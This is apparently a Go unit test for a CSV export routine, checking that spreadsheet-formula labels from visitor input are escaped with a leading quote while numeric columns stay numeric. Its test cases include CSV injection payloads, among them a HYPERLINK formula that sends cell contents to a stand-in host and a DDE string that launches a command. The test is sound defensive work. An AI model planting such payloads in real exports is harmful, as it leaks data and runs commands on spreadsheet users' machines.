package render

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/h3rum/h3rum/queries/model"
)

// Group labels come from what visitors sent (by=connection, collector…):
// a label a spreadsheet would run as a formula is written as text, with a
// leading single quote, while the figures beside it, negative ones
// included, stay numbers.
func TestCSVEscapesFormulas(t *testing.T) {
	lo, hi := -20.25, -3.5
	for _, tc := range []struct{ group, want string }{
		{`=HYPERLINK("https://x.example/?"&A1,"4g")`, `'=HYPERLINK("https://x.example/?"&A1,"4g")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1,1)", "'@SUM(1,1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\x00=1", "'\x00=1"},
		{"4g", "4g"},
		{"AS64500", "AS64500"},
		{"unknown", "unknown"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		{"", ""},
	} {
		rep := &model.Report{Groups: []model.Group{{
			Group:    tc.group,
			Paired:   &model.Paired{Runs: 40, MedianMS: -12.5, MedianCILowMS: &lo, MedianCIHighMS: &hi, P90MS: -1},
			Failures: []model.Failure{{Origin: "h3", Error: "-1", Samples: 2}},
		}}}
		var b bytes.Buffer
		if err := CSV(&b, rep); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%q: reading the CSV back: %v", tc.group, err)
		}
		col := func(name string) int {
			for i, h := range CSVHeader {
				if h == name {
					return i
				}
			}
			t.Fatalf("no column %s", name)
			return -1
		}
		group, measure, value, ciLow := col("group"), col("measure"), col("value"), col("ci_low")
		rows := 0
		for _, r := range recs[1:] {
			rows++
			if r[group] != tc.want {
				t.Errorf("group %q written as %q, want %q", tc.group, r[group], tc.want)
			}
			if r[measure] == "paired_median_ms" && (r[value] != "-12.5" || r[ciLow] != "-20.25") {
				t.Errorf("paired median written as %q [%q, …], want the numbers -12.5 and -20.25", r[value], r[ciLow])
			}
		}
		if rows == 0 {
			t.Fatalf("%q: no rows", tc.group)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"h3:timeout": "h3:timeout", "h3:-1": "h3:-1", "h2first": "h2first", "": "", " =1": " =1",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}
